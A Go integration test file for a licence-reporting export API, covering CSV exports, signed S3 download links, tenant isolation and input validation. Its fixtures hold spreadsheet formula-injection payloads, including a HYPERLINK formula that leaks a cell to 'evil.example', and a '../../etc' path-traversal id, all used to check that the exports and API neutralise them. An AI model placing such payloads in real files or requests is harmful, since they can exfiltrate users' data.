package exports_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/aws/aws-sdk-go-v2/service/s3"

	"github.com/licenseinsights/licenseinsights/internal/apitest"
	"github.com/licenseinsights/licenseinsights/pkg/api"
	"github.com/licenseinsights/licenseinsights/pkg/api/exports"
	"github.com/licenseinsights/licenseinsights/pkg/view"
)

// The native snapshot (docs/definitions.md#the-native-snapshot), as the test writes it.
type snapshot struct {
	Schema        string         `json:"schema"`
	Customer      customer       `json:"customer"`
	ReportDate    string         `json:"reportDate"`
	Subscriptions []subscription `json:"subscriptions"`
	Users         []user         `json:"users"`
}

type customer struct {
	ID       string `json:"id"`
	Name     string `json:"name"`
	TenantID string `json:"tenantId,omitempty"`
}

type subscription struct {
	ID          string `json:"id"`
	SKU         string `json:"sku"`
	Name        string `json:"name"`
	Quantity    int    `json:"quantity"`
	Status      string `json:"status"`
	Trial       bool   `json:"trial"`
	Channel     string `json:"channel"`
	RenewalDate string `json:"renewalDate,omitempty"`
}

type user struct {
	Key         string              `json:"key"`
	DisplayName string              `json:"displayName"`
	Deleted     bool                `json:"deleted"`
	Licenses    []license           `json:"licenses"`
	Workloads   map[string]workload `json:"workloads"`
}

type license struct {
	SKU          string `json:"sku"`
	AssignedDate string `json:"assignedDate,omitempty"`
}

type workload struct {
	Licensed     bool    `json:"licensed"`
	LastActivity *string `json:"lastActivity"`
}

func day(s string) *string { return &s }

const hostileName = `=HYPERLINK("http://evil.example/?leak="&A1,"Contoso")`

// contoso (report date D = 2026-11-20; 28-day window: active means last
// activity after D−28 = 2026-10-23). SPE_E3: 3 counted (own); POWER_BI_PRO:
// 2 on trial (direct), not counted.
//
//	alice  SPE_E3 2025-01-01  exchange L 11-19; onedrive L 10-24 + sharepoint L none
//	                          (→ sharepoint L, 10-24, active: D−27 is the oldest active day);
//	                          teams L 11-01; yammer unlicensed 11-18; office L 11-20
//	bob    SPE_E3 2025-02-01  exchange L 10-23 = D−28: not active
//	carol  deleted, nothing held, exchange unlicensed 11-10
//	dave   SPE_E3 2026-01-01  teams L 11-19
//	erin   POWER_BI_PRO (trial only), no workloads
//
// Entitled: SPE_E3's 3 counted licences go to its three holders, oldest
// first (alice, bob, dave); erin holds only trial capacity, carol nothing.
var contoso = snapshot{
	Schema:     "license-snapshot/v1",
	Customer:   customer{ID: "contoso", Name: hostileName, TenantID: "8f0ad8d2-4a0e-4a2b-9c55-2d7b37a1f001"},
	ReportDate: "2026-11-20",
	Subscriptions: []subscription{
		{ID: "s1", SKU: "SPE_E3", Name: "Microsoft 365 E3", Quantity: 3, Status: "active", Channel: "own", RenewalDate: "2027-01-31"},
		{ID: "s2", SKU: "POWER_BI_PRO", Name: "Power BI Pro", Quantity: 2, Status: "active", Trial: true, Channel: "direct"},
	},
	Users: []user{
		{Key: "alice@contoso.com", DisplayName: `=HYPERLINK("http://evil.example","click")`,
			Licenses: []license{{SKU: "SPE_E3", AssignedDate: "2025-01-01"}},
			Workloads: map[string]workload{
				"exchange":   {Licensed: true, LastActivity: day("2026-11-19")},
				"onedrive":   {Licensed: true, LastActivity: day("2026-10-24")},
				"sharepoint": {Licensed: true},
				"teams":      {Licensed: true, LastActivity: day("2026-11-01")},
				"yammer":     {Licensed: false, LastActivity: day("2026-11-18")},
				"office":     {Licensed: true, LastActivity: day("2026-11-20")},
			}},
		{Key: "bob@contoso.com", DisplayName: "+1",
			Licenses:  []license{{SKU: "SPE_E3", AssignedDate: "2025-02-01"}},
			Workloads: map[string]workload{"exchange": {Licensed: true, LastActivity: day("2026-10-23")}}},
		{Key: "carol@contoso.com", DisplayName: "-2", Deleted: true,
			Workloads: map[string]workload{"exchange": {Licensed: false, LastActivity: day("2026-11-10")}}},
		{Key: "dave@contoso.com", DisplayName: "@SUM(A1:A2)",
			Licenses:  []license{{SKU: "SPE_E3", AssignedDate: "2026-01-01"}},
			Workloads: map[string]workload{"teams": {Licensed: true, LastActivity: day("2026-11-19")}}},
		{Key: "erin@contoso.com", DisplayName: "Erin \"E\" O'Neil, Jr.\ttab",
			Licenses: []license{{SKU: "POWER_BI_PRO", AssignedDate: "2026-11-01"}}},
	},
}

// fabrikam (D = 2026-11-18: active means after 2026-10-21). O365_E1: 5
// counted (own), two holders, both entitled.
//
//	frank  exchange L 10-22 = D−27: active; teams L 10-21 = D−28: not active
//	grace  no activity
var fabrikam = snapshot{
	Schema:     "license-snapshot/v1",
	Customer:   customer{ID: "fabrikam", Name: "Fabrikam Inc"},
	ReportDate: "2026-11-18",
	Subscriptions: []subscription{
		{ID: "f1", SKU: "O365_E1", Name: "Office 365 E1", Quantity: 5, Status: "active", Channel: "own"},
	},
	Users: []user{
		{Key: "frank@fabrikam.com", DisplayName: "Frank", Licenses: []license{{SKU: "O365_E1", AssignedDate: "2025-05-05"}},
			Workloads: map[string]workload{
				"exchange": {Licensed: true, LastActivity: day("2026-10-22")},
				"teams":    {Licensed: true, LastActivity: day("2026-10-21")},
			}},
		{Key: "grace@fabrikam.com", DisplayName: "Grace", Licenses: []license{{SKU: "O365_E1", AssignedDate: "2025-05-06"}}},
	},
}

// otherContoso is another partner's customer with the same id: nothing of
// it may appear in partner-a's exports.
var otherContoso = snapshot{
	Schema:     "license-snapshot/v1",
	Customer:   customer{ID: "contoso", Name: "Contoso (partner B)"},
	ReportDate: "2026-11-20",
	Subscriptions: []subscription{
		{ID: "b1", SKU: "SPE_E5", Name: "Microsoft 365 E5", Quantity: 1, Status: "active", Channel: "own"},
	},
	Users: []user{{Key: "zed@contoso.com", DisplayName: "Zed", Licenses: []license{{SKU: "SPE_E5"}}}},
}

func seeded(t *testing.T) *stack {
	s := newStack(t)
	s.ingestSnapshot(t, "partner-a", contoso)
	s.ingestSnapshot(t, "partner-a", fabrikam)
	s.ingestSnapshot(t, "partner-b", otherContoso)
	return s
}

// download fetches a presigned URL with a plain HTTP client.
func download(t *testing.T, link string) (apitest.Response, []byte) {
	t.Helper()
	resp := apitest.Do(t, http.DefaultClient, apitest.NewRequest(t, http.MethodGet, link, "", nil))
	return resp, resp.Body
}

// exportAndDownload runs an export to its end and returns its file.
func (s *stack) exportAndDownload(t *testing.T, body string) (exports.Export, []byte) {
	t.Helper()
	created := s.createExport(t, "partner-a", body)
	if resp := s.runWorker(t, created.ExportID); len(resp.BatchItemFailures) != 0 {
		t.Fatalf("worker asked for a retry: %+v", resp)
	}
	status, e := s.getExport(t, "partner-a", created.ExportID)
	if status != http.StatusOK || e.Status != "succeeded" {
		t.Fatalf("GET export: %d %+v", status, e)
	}
	if e.DownloadURL == nil || e.ExpiresAt == nil || e.Rows == nil || e.Bytes == nil || e.CompletedAt == nil || e.Reason != nil {
		t.Fatalf("succeeded export lacks its link or counts: %+v", e)
	}
	// The default lifetime is an hour; the test's credentials do not
	// expire, so the link gets all of it.
	if left := time.Until(*e.ExpiresAt); left < 59*time.Minute || left > time.Hour {
		t.Errorf("link expires in %s, want about an hour", left)
	}
	resp, file := download(t, *e.DownloadURL)
	if resp.Status != http.StatusOK {
		t.Fatalf("download: %d %s", resp.Status, file)
	}
	want := `attachment; filename="` + *e.Filename + `"`
	if got := resp.Header.Get("Content-Disposition"); got != want {
		t.Errorf("Content-Disposition %q, want %q", got, want)
	}
	if int64(len(file)) != *e.Bytes {
		t.Errorf("downloaded %d bytes, the export says %d", len(file), *e.Bytes)
	}
	return e, file
}

func parseCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	records, err := r.ReadAll() // also checks every record is as long as the header
	if err != nil {
		t.Fatalf("not valid CSV: %v\n%s", err, b)
	}
	if len(records) == 0 {
		t.Fatal("no header")
	}
	return records
}

// noFormula checks that no cell can start a formula in a spreadsheet. The
// numbers the export writes itself are never negative, so every cell is
// checked.
func noFormula(t *testing.T, records [][]string) {
	t.Helper()
	for i, rec := range records {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("record %d, column %d: cell %q starts a formula", i, j, cell)
			}
		}
	}
}

// byKey indexes records (after the header) by their first columns.
func byKey(t *testing.T, records [][]string, cols ...int) map[string][]string {
	t.Helper()
	out := map[string][]string{}
	for _, rec := range records[1:] {
		var k []string
		for _, c := range cols {
			k = append(k, rec[c])
		}
		key := strings.Join(k, "|")
		if _, dup := out[key]; dup {
			t.Errorf("record %q appears twice", key)
		}
		out[key] = rec
	}
	return out
}

func compare(t *testing.T, got map[string][]string, want map[string][]string) {
	t.Helper()
	for k, w := range want {
		g, ok := got[k]
		if !ok {
			t.Errorf("row %s missing", k)
			continue
		}
		if !slices.Equal(g, w) {
			t.Errorf("row %s:\n got %q\nwant %q", k, g, w)
		}
	}
	for k := range got {
		if _, ok := want[k]; !ok {
			t.Errorf("unexpected row %s: %q", k, got[k])
		}
	}
}

const f, tr = "false", "true"

var none = []string{f, "", f} // not licensed, no activity, not active

func row(fixed []string, workloads ...[]string) []string {
	return slices.Concat(append([][]string{fixed}, workloads...)...)
}

// usersWant are partner-a's user rows (see contoso and fabrikam).
func usersWant() map[string][]string {
	c := []string{"contoso", "'" + hostileName, "2026-11-20"}
	fb := []string{"fabrikam", "Fabrikam Inc", "2026-11-18"}
	with := func(base []string, rest ...string) []string { return append(slices.Clone(base), rest...) }
	return map[string][]string{
		"contoso|alice@contoso.com": row(with(c, "alice@contoso.com", `'=HYPERLINK("http://evil.example","click")`, f, "SPE_E3", tr),
			[]string{tr, "2026-11-19", tr}, []string{tr, "2026-10-24", tr}, []string{tr, "2026-11-01", tr},
			[]string{f, "2026-11-18", tr}, none, []string{tr, "2026-11-20", tr}),
		"contoso|bob@contoso.com": row(with(c, "bob@contoso.com", "'+1", f, "SPE_E3", tr),
			[]string{tr, "2026-10-23", f}, none, none, none, none, none),
		"contoso|carol@contoso.com": row(with(c, "carol@contoso.com", "'-2", tr, "", f),
			[]string{f, "2026-11-10", tr}, none, none, none, none, none),
		"contoso|dave@contoso.com": row(with(c, "dave@contoso.com", "'@SUM(A1:A2)", f, "SPE_E3", tr),
			none, none, []string{tr, "2026-11-19", tr}, none, none, none),
		"contoso|erin@contoso.com": row(with(c, "erin@contoso.com", "Erin \"E\" O'Neil, Jr.\ttab", f, "POWER_BI_PRO", f),
			none, none, none, none, none, none),
		"fabrikam|frank@fabrikam.com": row(with(fb, "frank@fabrikam.com", "Frank", f, "O365_E1", tr),
			[]string{tr, "2026-10-22", tr}, none, []string{tr, "2026-10-21", f}, none, none, none),
		"fabrikam|grace@fabrikam.com": row(with(fb, "grace@fabrikam.com", "Grace", f, "O365_E1", tr),
			none, none, none, none, none, none),
	}
}

var usersHeader = strings.Split("customerId,customerName,reportDate,userKey,displayName,deleted,assignedSkus,entitled,"+
	"exchangeLicensed,exchangeLastActivity,exchangeActive,sharepointLicensed,sharepointLastActivity,sharepointActive,"+
	"teamsLicensed,teamsLastActivity,teamsActive,yammerLicensed,yammerLastActivity,yammerActive,"+
	"skypeLicensed,skypeLastActivity,skypeActive,officeLicensed,officeLastActivity,officeActive", ",")

func TestExportDatasets(t *testing.T) {
	t.Parallel()
	s := seeded(t)

	t.Run("users", func(t *testing.T) {
		e, file := s.exportAndDownload(t, `{"dataset": "users", "format": "csv"}`)
		if want := "users-" + e.CreatedAt.UTC().Format("2006-01-02") + ".csv"; *e.Filename != want {
			t.Errorf("filename %q, want %q", *e.Filename, want)
		}
		if bytes.HasPrefix(file, []byte("\xef\xbb\xbf")) {
			t.Error("the file starts with a byte order mark")
		}
		if !bytes.HasSuffix(file, []byte("\r\n")) {
			t.Error("lines do not end in CRLF")
		}
		records := parseCSV(t, file)
		if !slices.Equal(records[0], usersHeader) {
			t.Errorf("header\n%q\nwant\n%q", records[0], usersHeader)
		}
		noFormula(t, records)
		compare(t, byKey(t, records, 0, 3), usersWant())
		if *e.Rows != 7 || e.CustomerID != nil || e.Gzip {
			t.Errorf("export %+v, want 7 rows of every customer, not gzipped", e)
		}
		// The customers come in name order ("=h…" sorts before "f…").
		if records[1][0] != "contoso" || records[len(records)-1][0] != "fabrikam" {
			t.Errorf("customers out of name order: first %s, last %s", records[1][0], records[len(records)-1][0])
		}
	})

	t.Run("users of one customer, gzipped", func(t *testing.T) {
		e, file := s.exportAndDownload(t, `{"dataset": "users", "customerId": "fabrikam", "format": "csv", "gzip": true}`)
		if !strings.HasSuffix(*e.Filename, ".csv.gz") || e.CustomerID == nil || *e.CustomerID != "fabrikam" {
			t.Errorf("export %+v", e)
		}
		zr, err := gzip.NewReader(bytes.NewReader(file))
		if err != nil {
			t.Fatalf("the file is not gzip: %v", err)
		}
		plain, err := io.ReadAll(zr)
		if err != nil {
			t.Fatal(err)
		}
		records := parseCSV(t, plain)
		// fabrikam reports only the standard workloads.
		if !slices.Equal(records[0], usersHeader[:len(usersHeader)-3]) {
			t.Errorf("header %q", records[0])
		}
		want := map[string][]string{}
		for k, v := range usersWant() {
			if strings.HasPrefix(k, "fabrikam|") {
				want[k] = v[:len(v)-3]
			}
		}
		compare(t, byKey(t, records, 0, 3), want)
		if *e.Rows != 2 {
			t.Errorf("rows %d, want 2", *e.Rows)
		}
	})

	t.Run("customers", func(t *testing.T) {
		_, file := s.exportAndDownload(t, `{"dataset": "customers", "format": "csv"}`)
		records := parseCSV(t, file)
		noFormula(t, records)
		// contoso: sold 3 (SPE_E3; the trial is not counted), assigned 3
		// (alice, bob, dave) = 100.0 %, unassigned 0. Per workload
		// (entitlements / active / counted active): exchange 2/2/1 (carol,
		// deleted, is active but uncounted), sharepoint 1/1/1, teams 2/2/2,
		// yammer 0/1/0 (alice, unlicensed), skype 0/0/0, office 1/1/1:
		// 6 / 7 / 5 → usage 116.7 %, adjusted 83.3 %, band high. Inactive
		// licensed: bob (exchange 10-23 only) = 1. Users 5.
		// fabrikam: sold 5, assigned 2 = 40.0 %, unassigned 3; exchange
		// 1/1/1, teams 1/0/0 → 2 / 1 / 1 = 50.0 %, 50.0 %, medium;
		// inactive licensed: grace = 1. Users 2.
		compare(t, byKey(t, records, 0), map[string][]string{
			"contoso": {"contoso", "'" + hostileName, "8f0ad8d2-4a0e-4a2b-9c55-2d7b37a1f001", "2026-11-20", "28", "high", "5",
				"3", "3", "0", "0", "0", "3", "0", "100.0", "6", "7", "5", "116.7", "83.3", "1",
				"", "", "", "", "", "", "", "", "", ""}, // no Copilot: its ten columns are empty
			"fabrikam": {"fabrikam", "Fabrikam Inc", "", "2026-11-18", "28", "medium", "2",
				"5", "5", "0", "0", "0", "2", "3", "40.0", "2", "1", "1", "50.0", "50.0", "1",
				"", "", "", "", "", "", "", "", "", ""},
		})
		if !slices.Equal(records[0], strings.Split("customerId,customerName,customerTenantId,reportDate,windowDays,band,users,"+
			"licensesSold,soldOwn,soldPartner,soldDirect,soldUnknown,licensesAssigned,unassigned,deploymentPercent,"+
			"entitlements,activeEntitlements,countedActiveEntitlements,usagePercent,adjustedUsagePercent,inactiveLicensedUsers,"+
			"copilotReportDate,copilotSeatsSold,copilotSeatsAssigned,copilotUnassigned,copilotActive,copilotHabitual,"+
			"copilotDormant,copilotNeverUsed,copilotNew,copilotIdleSeats", ",")) {
			t.Errorf("header %q", records[0])
		}
	})

	t.Run("subscriptions", func(t *testing.T) {
		_, file := s.exportAndDownload(t, `{"dataset": "subscriptions", "format": "csv"}`)
		records := parseCSV(t, file)
		noFormula(t, records)
		if !slices.Equal(records[0], strings.Split("customerId,customerName,reportDate,subscriptionId,sku,productName,quantity,status,trial,channel,counted,renewalDate", ",")) {
			t.Errorf("header %q", records[0])
		}
		compare(t, byKey(t, records, 0, 3), map[string][]string{
			"contoso|s1":  {"contoso", "'" + hostileName, "2026-11-20", "s1", "SPE_E3", "Microsoft 365 E3", "3", "active", f, "own", tr, "2027-01-31"},
			"contoso|s2":  {"contoso", "'" + hostileName, "2026-11-20", "s2", "POWER_BI_PRO", "Power BI Pro", "2", "active", tr, "direct", f, ""},
			"fabrikam|f1": {"fabrikam", "Fabrikam Inc", "2026-11-18", "f1", "O365_E1", "Office 365 E1", "5", "active", f, "own", tr, ""},
		})
	})
}

// TestLinks: a fresh link can be asked for; a tampered or expired link is
// refused by the S3 server (which checks signatures); another tenant sees
// nothing of the export.
func TestLinks(t *testing.T) {
	t.Parallel()
	s := seeded(t)
	e, _ := s.exportAndDownload(t, `{"dataset": "subscriptions", "format": "csv"}`)
	id := e.ExportID

	resp := s.call(t, request{tenant: "partner-a", method: http.MethodPost, resource: "/v1/exports/{exportId}/link", params: map[string]string{"exportId": id}})
	if resp.Status != http.StatusOK {
		t.Fatalf("POST link: %d %s", resp.Status, resp.Body)
	}
	fresh := decode[exports.Export](t, resp)
	if fresh.DownloadURL == nil || fresh.ExpiresAt == nil {
		t.Fatalf("new link: %+v", fresh)
	}
	if r, _ := download(t, *fresh.DownloadURL); r.Status != http.StatusOK {
		t.Errorf("the new link: %d", r.Status)
	}

	t.Run("tampered signature", func(t *testing.T) {
		u, _ := url.Parse(*fresh.DownloadURL)
		q := u.Query()
		sig := []byte(q.Get("X-Amz-Signature"))
		if sig[0] == '0' {
			sig[0] = '1'
		} else {
			sig[0] = '0'
		}
		q.Set("X-Amz-Signature", string(sig))
		u.RawQuery = q.Encode()
		if r, body := download(t, u.String()); r.Status != http.StatusForbidden {
			t.Errorf("tampered signature: %d %s, want 403", r.Status, body)
		}
	})
	t.Run("tampered key", func(t *testing.T) {
		u, _ := url.Parse(*fresh.DownloadURL)
		u.Path = strings.Replace(u.Path, "/partner-a/", "/partner-b/", 1)
		if r, body := download(t, u.String()); r.Status != http.StatusForbidden {
			t.Errorf("tampered key: %d %s, want 403", r.Status, body)
		}
	})
	t.Run("tampered lifetime", func(t *testing.T) {
		u, _ := url.Parse(*fresh.DownloadURL)
		q := u.Query()
		q.Set("X-Amz-Expires", "604800")
		u.RawQuery = q.Encode()
		if r, body := download(t, u.String()); r.Status != http.StatusForbidden {
			t.Errorf("tampered lifetime: %d %s, want 403", r.Status, body)
		}
	})
	t.Run("expired", func(t *testing.T) {
		// The same object, signed by the same credentials two hours ago
		// for one hour: the link ran out an hour ago.
		u, _ := url.Parse(*fresh.DownloadURL)
		key := strings.TrimPrefix(u.Path, "/"+s.env.Bucket+"/")
		presigner := s3.NewPresignClient(s.s3, func(o *s3.PresignOptions) { o.Presigner = backdated{v4.NewSigner(), 2 * time.Hour} })
		req, err := presigner.PresignGetObject(context.Background(), &s3.GetObjectInput{Bucket: &s.env.Bucket, Key: &key}, s3.WithPresignExpires(time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		if r, body := download(t, req.URL); r.Status != http.StatusForbidden {
			t.Errorf("expired link: %d %s, want 403", r.Status, body)
		}
		// The same signing, not backdated, works: the 403 is the expiry.
		presigner = s3.NewPresignClient(s.s3, func(o *s3.PresignOptions) { o.Presigner = backdated{v4.NewSigner(), 0} })
		req, err = presigner.PresignGetObject(context.Background(), &s3.GetObjectInput{Bucket: &s.env.Bucket, Key: &key}, s3.WithPresignExpires(time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		if r, body := download(t, req.URL); r.Status != http.StatusOK {
			t.Errorf("control link: %d %s, want 200", r.Status, body)
		}
	})

	t.Run("another tenant", func(t *testing.T) {
		if status, _ := s.getExport(t, "partner-b", id); status != http.StatusNotFound {
			t.Errorf("partner-b GET: %d, want 404", status)
		}
		resp := s.call(t, request{tenant: "partner-b", method: http.MethodPost, resource: "/v1/exports/{exportId}/link", params: map[string]string{"exportId": id}})
		if resp.Status != http.StatusNotFound {
			t.Errorf("partner-b POST link: %d %s, want 404", resp.Status, resp.Body)
		}
		list := s.call(t, request{tenant: "partner-b", method: http.MethodGet, resource: "/v1/exports"})
		if page := decode[view.Page[exports.Export]](t, list); list.Status != http.StatusOK || len(page.Items) != 0 {
			t.Errorf("partner-b list: %d %s, want 200 and no items", list.Status, list.Body)
		}
		// And partner-b cannot export partner-a's customer that does not exist for it.
		resp = s.call(t, request{tenant: "partner-b", method: http.MethodPost, resource: "/v1/exports", body: `{"dataset":"users","format":"csv","customerId":"fabrikam"}`})
		if resp.Status != http.StatusNotFound {
			t.Errorf("partner-b exporting partner-a's customer: %d %s, want 404", resp.Status, resp.Body)
		}
	})
}

// errorBody is the API's error shape (docs/definitions.md#the-api).
type errorBody struct {
	Error struct {
		Code    string       `json:"code"`
		Message string       `json:"message"`
		Details []api.Detail `json:"details"`
	} `json:"error"`
}

// backdated signs as if at a time ago.
type backdated struct {
	v4  *v4.Signer
	ago time.Duration
}

func (b backdated) PresignHTTP(ctx context.Context, creds aws.Credentials, r *http.Request, payloadHash, service, region string, signingTime time.Time, optFns ...func(*v4.SignerOptions)) (string, http.Header, error) {
	return b.v4.PresignHTTP(ctx, creds, r, payloadHash, service, region, signingTime.Add(-b.ago), optFns...)
}

func TestCreateRefusesBadRequests(t *testing.T) {
	t.Parallel()
	s := seeded(t)
	tests := []struct {
		name   string
		role   string
		body   string
		status int
		field  string
	}{
		{"empty body", "", ``, 400, ""},
		{"not JSON", "", `dataset=users`, 400, ""},
		{"not an object", "", `["users"]`, 400, ""},
		{"no dataset", "", `{"format":"csv"}`, 400, "dataset"},
		{"unknown dataset", "", `{"dataset":"licences","format":"csv"}`, 400, "dataset"},
		{"dataset not a string", "", `{"dataset":1,"format":"csv"}`, 400, "dataset"},
		{"no format", "", `{"dataset":"users"}`, 400, "format"},
		{"other format", "", `{"dataset":"users","format":"xlsx"}`, 400, "format"},
		{"gzip not a boolean", "", `{"dataset":"users","format":"csv","gzip":"yes"}`, 400, "gzip"},
		{"unknown field", "", `{"dataset":"users","format":"csv","tenant":"partner-b"}`, 400, "tenant"},
		{"bad customer id", "", `{"dataset":"users","format":"csv","customerId":"a#b"}`, 400, "customerId"},
		{"trailing data", "", `{"dataset":"users","format":"csv"} {}`, 400, ""},
		{"unknown customer", "", `{"dataset":"users","format":"csv","customerId":"northwind"}`, 404, ""},
		{"reader role", "reader", `{"dataset":"users","format":"csv"}`, 403, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp := s.call(t, request{tenant: "partner-a", role: tt.role, method: http.MethodPost, resource: "/v1/exports", body: tt.body})
			if resp.Status != tt.status {
				t.Fatalf("%d %s, want %d", resp.Status, resp.Body, tt.status)
			}
			e := decode[errorBody](t, resp)
			if e.Error.Message == "" {
				t.Errorf("no message: %s", resp.Body)
			}
			if tt.field != "" && (len(e.Error.Details) == 0 || e.Error.Details[0].Field != tt.field) {
				t.Errorf("details %+v do not name field %q", e.Error.Details, tt.field)
			}
		})
	}
	// Nothing above created a job.
	list := s.call(t, request{tenant: "partner-a", method: http.MethodGet, resource: "/v1/exports"})
	if page := decode[view.Page[exports.Export]](t, list); len(page.Items) != 0 {
		t.Errorf("refused requests left %d jobs", len(page.Items))
	}
}

func TestStatusAndList(t *testing.T) {
	t.Parallel()
	s := seeded(t)
	first := s.createExport(t, "partner-a", `{"dataset":"customers","format":"csv"}`)
	second := s.createExport(t, "partner-a", `{"dataset":"users","format":"csv","customerId":"contoso"}`)

	// Pending: no link yet, and none can be asked for.
	status, e := s.getExport(t, "partner-a", second.ExportID)
	if status != http.StatusOK || e.Status != "pending" || e.DownloadURL != nil || e.Rows != nil || e.CompletedAt != nil {
		t.Errorf("pending export: %d %+v", status, e)
	}
	resp := s.call(t, request{tenant: "partner-a", method: http.MethodPost, resource: "/v1/exports/{exportId}/link", params: map[string]string{"exportId": second.ExportID}})
	if resp.Status != http.StatusConflict {
		t.Errorf("link of a pending export: %d %s, want 409", resp.Status, resp.Body)
	}
	for _, bad := range []string{"nope", strings.Repeat("Z", 26), "../../etc"} {
		if status, _ := s.getExport(t, "partner-a", bad); status != http.StatusNotFound {
			t.Errorf("GET export %q: %d, want 404", bad, status)
		}
	}

	// Newest first, one per page.
	var ids []string
	cursor := ""
	for range 3 {
		q := map[string]string{"limit": "1"}
		if cursor != "" {
			q["cursor"] = cursor
		}
		resp := s.call(t, request{tenant: "partner-a", method: http.MethodGet, resource: "/v1/exports", query: q})
		page := decode[view.Page[exports.Export]](t, resp)
		for _, it := range page.Items {
			ids = append(ids, it.ExportID)
		}
		if page.NextCursor == nil {
			break
		}
		cursor = *page.NextCursor
	}
	if want := []string{second.ExportID, first.ExportID}; !slices.Equal(ids, want) {
		t.Errorf("listed %q, want newest first %q", ids, want)
	}
	for _, q := range []map[string]string{{"limit": "0"}, {"limit": "501"}, {"cursor": "garbage"}} {
		if resp := s.call(t, request{tenant: "partner-a", method: http.MethodGet, resource: "/v1/exports", query: q}); resp.Status != http.StatusBadRequest {
			t.Errorf("list %v: %d, want 400", q, resp.Status)
		}
	}
}
